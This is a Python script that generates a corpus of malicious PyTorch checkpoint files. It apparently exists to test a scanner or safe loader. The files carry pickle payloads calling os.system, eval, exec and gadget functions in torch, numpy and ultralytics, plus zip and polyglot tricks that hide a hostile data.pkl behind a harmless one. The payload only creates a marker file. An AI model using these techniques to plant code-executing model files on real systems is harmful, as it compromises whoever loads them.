# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files named .pt that would run something when they are loaded, if they were loaded as pickles are.

    python attacks.py FOLDER

Each would make the file `owned` in the current folder, or import the module `owner` there, which does. Written with the
standard library and torch alone.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

CODE = "open('owned', 'w').close()"
SHELL = "touch owned"


def text(value: str) -> bytes:
    """The opcodes that push a string."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """The opcode that pushes what `module` has by the name `attribute`."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function: bytes, *arguments: bytes) -> bytes:
    """The opcodes that call a function."""
    return function + b"(" + b"".join(arguments) + b"tR"


def whole(value: bytes, protocol: int = 2) -> bytes:
    """A pickle of {"model": value}."""
    return b"\x80" + bytes([protocol]) + b"}" + text("model") + value + b"s."


def archive(data: bytes, top: str = "archive", **more: bytes) -> bytes:
    """A checkpoint's archive as torch writes it, with `data` as its data.pkl."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED) as out:
        for entry, content in {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **more}.items():
            out.writestr(f"{top}/{entry}", content)
    return made.getvalue()


SYSTEM = call(name("posix", "system"), text(SHELL))
HARMLESS = whole(call(name("collections", "OrderedDict")))
POPEN = text("touch"), text("owned")
LIST = b"](" + b"".join(POPEN) + b"e"


def code_object() -> bytes:
    """types.FunctionType(types.CodeType(...), {...})()."""
    code = compile(CODE, "x", "exec")
    fields = (
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "nlocals",
        "stacksize",
        "flags",
        "code",
        "consts",
        "names",
        "varnames",
        "filename",
        "name",
        "qualname",
        "firstlineno",
        "linetable",
        "exceptiontable",
        "freevars",
        "cellvars",
    )
    values = [getattr(code, f"co_{field}") for field in fields if hasattr(code, f"co_{field}")]
    pushed = [pickle.dumps(value, 2)[2:-1] for value in values]
    made = call(name("types", "CodeType"), *pushed)
    scope = b"}" + text("__builtins__") + call(name("builtins", "__import__"), text("builtins")) + b"s"
    return call(call(name("types", "FunctionType"), made, scope))


def networks_class(module: str, attribute: str, *words: str) -> bytes:
    """A class that a file may hold, called with arguments."""
    return whole(call(name(module, attribute), *map(text, words)))


PICKLES: dict[str, bytes] = {
    "os": whole(call(name("os", "system"), text(SHELL))),
    "posix": whole(SYSTEM),
    "eval": whole(call(name("builtins", "eval"), text(CODE))),
    "exec2": whole(call(name("__builtin__", "eval"), text(CODE))),
    "exec": whole(call(name("builtins", "exec"), text(CODE))),
    "partial": whole(call(call(name("functools", "partial"), name("os", "system"), text(SHELL)))),
    "getattr": whole(call(call(name("builtins", "getattr"), name("os", "path"), text("os")))),
    "stack_global": whole(b"(" + text("posix") + text("system") + b"\x93" + text(SHELL) + b"\x85R", 4)[:-2] + b"s.",
    "inst": b"\x80\x02(" + text(SHELL) + b"iposix\nsystem\n.",
    "obj": b"\x80\x02(" + name("posix", "system") + text(SHELL) + b"o.",
    "ext": b"\x80\x02\x82\x01.",
    "hub": whole(call(name("torch.hub", "load"), text("."), text("owner"), b"N", b"\x88", b"\x88")),
    "hub_url": whole(call(name("torch.hub", "load_state_dict_from_url"), text("file:os.pt"))),
    "f2py": whole(call(name("numpy.f2py.diagnose", "run_command"), text(SHELL))),
    "f2py_exec": whole(call(name("numpy.f2py.capi_maps", "load_f2cmap_file"), text("owned"))),
    "code": whole(code_object()),
    "dotted": whole(call(name("torch.utils.cpp_extension", "subprocess.Popen"), LIST), 4),
    "dotted_module": whole(call(name("torch.utils.cpp_extension.subprocess", "Popen"), LIST)),
    "file_type": whole(call(call(name("argparse", "FileType"), text("w")), text("owned"))),
    "handler": whole(
        call(
            name(
                "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler", "SubprocessHandler"
            ),
            text("touch"),
            b"(" + text("owned") + b"t",
            b"}",
            b"N",
            b"N",
            b"K\x00",
        )
    ),
    "spawn": whole(call(name("torch.multiprocessing.spawn", "spawn"), name("os", "system"), b"(" + text(SHELL) + b"t")),
    "popen_fork": whole(call(name("torch.multiprocessing", "Process"), b"N", name("os", "system"))),
    "inductor": whole(call(name("torch._inductor.codecache", "PyCodeCache.load"), text(CODE)), 4),
    "load": whole(call(name("torch.serialization", "load"), text("os.pt"))),
    "load_alias": whole(call(name("torch", "load"), text("os.pt"))),
    "jit": whole(call(name("torch.jit", "load"), text("os.pt"))),
    "numpy_load": whole(call(name("numpy", "load"), text("owner.npy"), b"N", b"\x88")),
    "rebuild": whole(
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("posix", "system"),
            name("torch", "Tensor"),
            b"(" + text(SHELL) + b"t",
            b"}",
        )
    ),
    "module": whole(name("owner", "Anything") + b")\x81"),
    "module_below": whole(name("owner.below", "Anything") + b")\x81"),
    "YOLO": networks_class("ultralytics", "YOLO", "os.pt"),
    "YOLO_model": networks_class("ultralytics.models.yolo.model", "YOLO", "os.pt"),
    "AutoBackend": networks_class("ultralytics.nn.autobackend", "AutoBackend", "os.pt"),
    "load_checkpoint": networks_class("ultralytics.nn.tasks", "load_checkpoint", "os.pt"),
    "DetectMultiBackend": networks_class("models.common", "DetectMultiBackend", "os.pt"),
    "attempt_load": networks_class("models.experimental", "attempt_load", "os.pt"),
    "v5_hub": networks_class("hubconf", "_create", "os.pt"),
    "constructor": networks_class("torch.nn.modules.container", "Sequential", "os.pt"),
    "constructor8": networks_class("ultralytics.nn.tasks", "DetectionModel", "owner.yaml"),
    "constructor5": networks_class("models.yolo", "DetectionModel", "owner.yaml"),
    "constructor7": networks_class("models.yolo", "Model", "owner.yaml"),
    "checked_requirement": networks_class("ultralytics.utils.checks", "check_requirements", "owner"),
    "persistent": b"\x80\x02" + b"(" + text("module") + text("owner") + b"tQ.",
    "two_meanings": whole(call(name("collections", "abc.sys.modules"), text("x")), 4),
}


def polyglot() -> bytes:
    """A pickle first, an archive behind it."""
    return pickle.dumps(Reduced(), 2) + archive(HARMLESS)


class Reduced:
    """Pickles as a call of os.system."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (SHELL,)


def _twice(first: bytes, second: bytes, other: str) -> bytes:
    """An archive with two pickles, the second by another name or the same."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        out.writestr("archive/data.pkl", first)
        out.writestr("archive/version", b"3\n")
        out.writestr(other, second)
    return made.getvalue()


def _contradicting() -> bytes:
    """The central directory calls the harmless entry data.pkl, the local headers the other one."""
    data = _twice(PICKLES["posix"], HARMLESS, "archive/data_pkl")
    start = data.index(b"PK\x01\x02")  # the central directory: swap the two names there, the same length each
    names = {b"archive/data.pkl": b"archive/data_pkl", b"archive/data_pkl": b"archive/data.pkl"}
    head, tail = data[:start], data[start:]
    tail = tail.replace(b"archive/data.pkl", b"\0" * 16).replace(b"archive/data_pkl", b"archive/data.pkl")
    assert len(names) == 2
    return head + tail.replace(b"\0" * 16, b"archive/data_pkl")


def _legacy(**how: Any) -> bytes:
    """What torch.save wrote before 1.6."""
    made = io.BytesIO()
    torch.save({"model": Reduced()}, made, _use_new_zipfile_serialization=False, **how)
    return made.getvalue()


def _tar() -> bytes:
    """What torch.save wrote before 0.1.10."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as out:
        for entry in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(entry)
            info.size = len(PICKLES["posix"])
            out.addfile(info, io.BytesIO(PICKLES["posix"]))
    return made.getvalue()


def _torchscript() -> bytes:
    """A TorchScript archive."""
    made = io.BytesIO()
    torch.jit.save(torch.jit.trace(torch.nn.Conv2d(3, 8, 1), torch.zeros(1, 3, 8, 8)), made)
    return made.getvalue()


def _numpy(compressed: bool) -> bytes:
    """An array of objects, or an archive of them."""
    import numpy as np

    made = io.BytesIO()
    array = np.array([Reduced()], dtype=object)
    np.savez(made, data=array) if compressed else np.save(made, array, allow_pickle=True)
    return made.getvalue()


BAD, GOOD = PICKLES["posix"], HARMLESS
FILES: dict[str, Callable[[], bytes]] = {
    "legacy": _legacy,
    "tar": _tar,
    "raw_pickle": lambda: pickle.dumps(Reduced()),
    "polyglot": polyglot,
    "prefixed": lambda: b"PK\x03\x04" + archive(BAD),
    "torchscript": _torchscript,
    "npy": lambda: _numpy(False),
    "npz": lambda: _numpy(True),
    "script": CODE.encode,
    "zipped_script": lambda: _twice(b"", CODE.encode(), "__main__.py"),
    "twice": lambda: _twice(GOOD, BAD, "archive/data.pkl"),
    "twice_first": lambda: _twice(BAD, GOOD, "archive/data.pkl"),
    "case": lambda: _twice(GOOD, BAD, "archive/DATA.PKL"),
    "case_first": lambda: _twice(BAD, GOOD, "Archive/data.pkl"),
    "two_tops": lambda: _twice(GOOD, BAD, "other/data.pkl"),
    "two_tops_first": lambda: _twice(BAD, GOOD, "other/data.pkl"),
    "contradicting": _contradicting,
    "two_archives": lambda: archive(BAD) + archive(GOOD),
    "two_archives_first": lambda: archive(GOOD) + archive(BAD),
    "commented": lambda: archive(GOOD)[:-2] + struct.pack("<H", len(archive(BAD))) + archive(BAD),
}


def names() -> list[str]:
    """Of all files."""
    return [f"{key}.pt" for key in (*PICKLES, *FILES)]


def write_all(folder: Path) -> None:
    """Write every file and the module that one of them would import."""
    made = {**{key: archive(data) for key, data in PICKLES.items()}, **{key: make() for key, make in FILES.items()}}
    for key, content in made.items():
        (folder / f"{key}.pt").write_bytes(content)
    (folder / "owner").mkdir(exist_ok=True)
    (folder / "owner/__init__.py").write_text(CODE + "\n")
    (folder / "hubconf_owner.py").write_text(CODE + "\n")
    (folder / "owner.npy").write_bytes(_numpy(False))
    (folder / "owner.yaml").write_text(
        'nc: 1\ndepth_multiple: 1\nwidth_multiple: 1\nanchors: 3\nactivation: "' + CODE.replace('"', "'") + '"\n'
        'backbone: [[-1, 1, "eval", ["' + CODE + '"]]]\nhead: []\n'
    )


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
    print(*names())
